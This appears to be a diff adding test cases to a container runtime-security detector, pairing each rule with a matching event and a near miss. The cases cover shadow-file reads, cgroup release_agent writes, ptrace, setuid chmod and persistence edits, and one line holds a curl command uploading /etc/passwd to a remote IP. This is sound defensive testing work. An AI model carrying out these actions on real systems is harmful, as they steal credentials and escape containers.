@@ -18,8 +18,10 @@ from roxd.model import (
     Container,
     EnrichedEvent,
     ExecEvent,
+    FileEvent,
     Phase,
     Process,
+    SyscallEvent,
 )
 from roxd.rules import KillPath, RuleSet, load_rule_set
 
@@ -83,6 +85,48 @@ def connect(
     event = ConnectEvent(1, 300, 300, 1000, 7, process.comm, family, daddr, dport, 0)
     return EnrichedEvent(event, None if image == HOST else container(image), process)
 
+
+def _proc(exe: str, comm: str | None = None, ancestors: tuple[str, ...] = ()) -> Process:
+    return Process(pid=400, ppid=1, uid=0, exe=exe, comm=comm or exe.rpartition("/")[2][:15],
+                   args=(exe,), cgroup_id=7,
+                   ancestors=tuple(Ancestor(401 + i, a) for i, a in enumerate(ancestors)))
+
+
+def file_access(
+    path: str,
+    access: tuple[str, ...],
+    exe: str = "/bin/sh",
+    image: str = "acme/app:1.0",
+    operation: str = "open",
+    ancestors: tuple[str, ...] = (),
+) -> EnrichedEvent:
+    process = _proc(exe, ancestors=ancestors)
+    event = FileEvent(1, 400, 0, 7, process.comm, operation, path, access, resolved=path)
+    return EnrichedEvent(event, None if image == HOST else container(image), process)
+
+
+def syscall(
+    name: str,
+    args: dict[str, int | str] | None = None,
+    errno: int = 0,
+    exe: str = "/app/bin/server",
+    comm: str | None = None,
+    image: str = "acme/app:1.0",
+    ancestors: tuple[str, ...] = (),
+) -> EnrichedEvent:
+    process = _proc(exe, comm, ancestors)
+    event = SyscallEvent(1, 400, 0, 7, process.comm, name, errno, args or {})
+    return EnrichedEvent(event, None if image == HOST else container(image), process)
+
+
+def fileless(filename: str, comm: str = "payload") -> EnrichedEvent:
+    process = Process(pid=500, ppid=1, uid=0, exe=filename, comm=comm, args=("x",), cgroup_id=7)
+    event = ExecEvent(1, 500, 1, 0, 0, 7, comm, filename, ("x",), False,
+                      fileless=filename.startswith(("/dev/fd/", "/proc/")))
+    return EnrichedEvent(event, container(), process)
+
+
+WRITE = ("write", "create", "truncate")
 
 # rule id -> (an event the rule must match, a near miss it must not match)
 CASES: dict[str, tuple[EnrichedEvent, EnrichedEvent]] = {
@@ -317,6 +361,72 @@ CASES: dict[str, tuple[EnrichedEvent, EnrichedEvent]] = {
     "objectives.packet-sniffer-in-container": (
         run("tcpdump -i any -w /tmp/c.pcap"),
         run("tcpdump -i any -w /tmp/c.pcap", image=HOST),
+    ),
+    # ------------------------------------------------------------------ syscalls and files
+    "foothold.fileless-exec": (
+        fileless("/dev/fd/3"),
+        fileless("/proc/self/fd/5", comm="runc:[2:INIT]"),
+    ),
+    "privilege_escalation.shadow-file-read": (
+        file_access("/etc/shadow", ("read",)),
+        file_access("/etc/shadow", ("read",), exe="/usr/sbin/sshd"),
+    ),
+    "privilege_escalation.release-agent-modified": (
+        file_access("/sys/fs/cgroup/rdma/release_agent", WRITE),
+        file_access("/sys/fs/cgroup/rdma/release_agent", ("read",)),
+    ),
+    "privilege_escalation.ptrace-syscall": (
+        syscall("ptrace", {"flags": "PTRACE_ATTACH", "target_pid": 1}),
+        syscall("ptrace", {"flags": "PTRACE_TRACEME"}),
+    ),
+    "privilege_escalation.namespace-syscall-in-container": (
+        syscall("unshare", {"flags": "CLONE_NEWUSER|CLONE_NEWNS"}, errno=1),
+        syscall("unshare", {"flags": "CLONE_NEWNS"}, comm="runc:[1:CHILD]"),
+    ),
+    "privilege_escalation.mount-syscall-in-container": (
+        syscall("mount", {"path": "/mnt", "fstype": "ext4", "source": "/dev/sda1"}, errno=1),
+        syscall("mount", {"path": "/proc", "fstype": "proc"}, comm="runc:[2:INIT]"),
+    ),
+    "privilege_escalation.kernel-module-syscall": (
+        syscall("finit_module", {"fd": 3}, image=HOST, exe="/tmp/loader"),
+        syscall("finit_module", {"fd": 3}, image=HOST, exe="/usr/bin/kmod"),
+    ),
+    "privilege_escalation.bpf-syscall-in-container": (
+        syscall("bpf", {"flags": "BPF_PROG_LOAD", "cmd": "BPF_PROG_LOAD"}),
+        syscall("bpf", {"flags": "BPF_PROG_LOAD", "cmd": "BPF_PROG_LOAD"}, image=HOST),
+    ),
+    "privilege_escalation.setuid-bit-syscall": (
+        syscall("chmod", {"flags": "S_ISUID", "mode": "0o4755", "path": "/tmp/sh"}),
+        syscall("chmod", {"flags": "S_ISUID", "mode": "0o4755", "path": "/usr/bin/ping"},
+                ancestors=("/usr/bin/dpkg",)),
+    ),
+    "persistence.cron-file-modified": (
+        file_access("/etc/cron.d/y", ("write", "create")),
+        file_access("/etc/cron.d/y", ("read",)),
+    ),
+    "persistence.authorized-keys-modified": (
+        file_access("/root/.ssh/authorized_keys", ("write", "create")),
+        file_access("/root/.ssh/known_hosts", ("write", "create")),
+    ),
+    "persistence.shell-profile-modified": (
+        file_access("/home/app/.bashrc", ("write",)),
+        file_access("/home/app/.bashrc", ("read",)),
+    ),
+    "persistence.ld-preload-modified": (
+        file_access("/etc/ld.so.preload", WRITE),
+        file_access("/etc/ld.so.conf", WRITE),
+    ),
+    "persistence.account-file-modified": (
+        file_access("/etc/sudoers.d/zz", ("write", "create")),
+        file_access("/etc/passwd", WRITE, exe="/usr/sbin/useradd"),
+    ),
+    "persistence.systemd-unit-modified": (
+        file_access("/etc/systemd/system/evil.service", ("write", "create"), image=HOST),
+        file_access("/etc/systemd/system/evil.service", ("write",), exe="/usr/bin/systemctl"),
+    ),
+    "objectives.log-file-tampered": (
+        file_access("/var/log/auth.log", ("truncate", "write")),
+        file_access("/var/log/auth.log", ("rename", "create", "write"), operation="rename"),
     ),
     "objectives.file-upload-from-container": (
         run("curl -F file=@/etc/passwd http://198.51.100.7/u"),
